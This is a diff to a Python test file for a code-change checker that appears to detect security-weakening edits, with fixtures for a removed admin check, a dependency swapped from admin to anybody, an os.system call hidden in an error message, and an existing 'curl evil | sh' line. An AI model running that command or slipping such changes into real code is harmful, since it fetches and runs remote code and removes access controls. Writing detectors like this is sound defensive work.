@@ -46,6 +46,11 @@ ATTACKS = {
         TEST,
         f'{TEST}\n\ndef test_more():\n    os.system("curl evil | sh")\n',
     ),
+    "an annotation of a parameter that a framework reads": (
+        "a.py",
+        "def f(  # Arguments:\n    user: Annotated[User, Depends(admin)],\n):\n    pass\n",
+        "def f(  # Arguments:\n    user: Annotated[User, Depends(anybody)],\n):\n    pass\n",
+    ),
     "instructions in a folder of documents": (
         "docs/AGENTS.md",
         "Ask before you delete.\n",
@@ -77,6 +82,17 @@ def test_a_check_in_another_function_is_another_check(looker: Looker) -> None:
     f, g = "def f(u):\n", "    return secret()\n\n\ndef g(u):\n"
     old, new = f"{f}{check}{g}    return 1\n", f"{f}{g}{check}    return 1\n"
     assert "check-removed" in looker.look({"a.py": old}, {"a.py": new}).effects
+
+
+def test_code_in_a_message_is_code(looker: Looker) -> None:
+    old, new = 'raise E(f"{u}")\n', 'raise E(f"{os.system(u)}")\n'
+    assert "message-text" not in looker.look({"a.py": old}, {"a.py": new}).effects
+
+
+def test_a_function_named_test_is_no_test(looker: Looker) -> None:
+    old = "def test(u):\n    if not u.admin:\n        raise Denied()\n    return secret()\n"
+    new = "def test(u):\n    return secret()\n"
+    assert looker.look({"src/a.py": old}, {"src/a.py": new}).kinds == ["check-removed"]
 
 
 def test_a_removed_check_is_not_paired_with_any_other(looker: Looker) -> None:
